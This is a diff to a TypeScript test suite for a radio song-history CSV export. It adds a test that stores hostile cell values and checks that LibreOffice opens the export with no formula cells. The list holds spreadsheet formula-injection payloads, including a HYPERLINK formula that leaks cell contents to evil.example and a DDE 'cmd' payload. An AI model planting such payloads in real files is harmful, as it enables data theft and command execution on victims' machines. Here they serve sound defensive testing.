@@ -6,6 +6,7 @@ import { db } from "~/services/db.server";
 import { wallKeyAt } from "~/utils/schedule-time";
 import { adminCookie } from "./helpers/admin";
 import { startTestServer, type TestServer } from "./helpers/server";
+import { openCsvInLibreOffice, SEPARATORS } from "./helpers/spreadsheet";
 
 const MINUTE = 60_000;
 
@@ -94,10 +95,53 @@ describe("song history", () => {
     const cookie = await adminCookie(server.url);
     const csv = await (await fetch(`${server.url}/history.csv?from=2026-11-20&to=2026-11-20`, { headers: { Cookie: cookie } })).text();
     const lines = csv.trim().split("\n");
-    expect(lines[0]).toBe("played_at_utc,played_at_local (America/New_York),artist,title,stream_title,show");
+    expect(lines[0]).toBe('"played_at_utc","played_at_local (America/New_York)","artist","title","stream_title","show"');
     expect(lines).toHaveLength(131);
-    expect(lines[1]).toBe("2026-11-20T10:00:00.000Z,2026-11-20 05:00:00,Artist 0,Song 0,Artist 0 - Song 0,");
+    expect(lines[1]).toBe('"2026-11-20T10:00:00.000Z","2026-11-20 05:00:00","Artist 0","Song 0","Artist 0 - Song 0",""');
     expect((await fetch(`${server.url}/history.csv?from=2026-11-21&to=2026-11-20`, { headers: { Cookie: cookie } })).status).toBe(400);
+  });
+
+  it("gives a CSV that LibreOffice opens with `,`, `;` or tab as the separator without a single formula cell", async () => {
+    await db().songPlay.deleteMany();
+    // As stored (from the stream, or an imported archive): the export must be safe whatever a row holds.
+    const hostile = [
+      "Song;=1+1;",
+      'Song;"=1+1";x',
+      '=HYPERLINK("http://evil.example/?"&A1;"click")',
+      "+cmd|' /C calc'!A0",
+      "-1+1",
+      "@SUM(1+1)",
+      "\t=1+1",
+      "\r=1+1",
+      "Intro\n=1+1",
+      "Intro\r\n-2+3",
+      " =1+1",
+      "\u00a0=1+1",
+      "\uff1d1+1",
+      "Artist, =1+1",
+      "Artist\t@SUM(1)",
+      'Quote";=1+1;"',
+      '""=1+1',
+    ];
+    const start = Date.parse("2026-11-22T12:00:00Z");
+    await db().songPlay.createMany({
+      data: hostile.map((text, i) => ({ playedAt: new Date(start + i * MINUTE), raw: text, artist: text, title: `Song ${i} ${text}`, showName: text })),
+    });
+    const cookie = await adminCookie(server.url);
+    const csv = await (await fetch(`${server.url}/history.csv?from=2026-11-22&to=2026-11-22`, { headers: { Cookie: cookie } })).text();
+    for (const [name, separator] of Object.entries(SEPARATORS)) {
+      const sheet = await openCsvInLibreOffice(csv, separator);
+      expect(sheet.formulas, name).toEqual([]);
+      // LibreOffice did read the rows: the header and every song are there.
+      expect(
+        sheet.texts.some((text) => text.includes("played_at_utc")),
+        name,
+      ).toBe(true);
+      expect(
+        hostile.every((_, i) => sheet.texts.some((text) => text.includes(`Song ${i} `))),
+        name,
+      ).toBe(true);
+    }
   });
 
   it("keeps spreadsheet formulas out of the CSV and prunes songs older than HISTORY_DAYS", async () => {
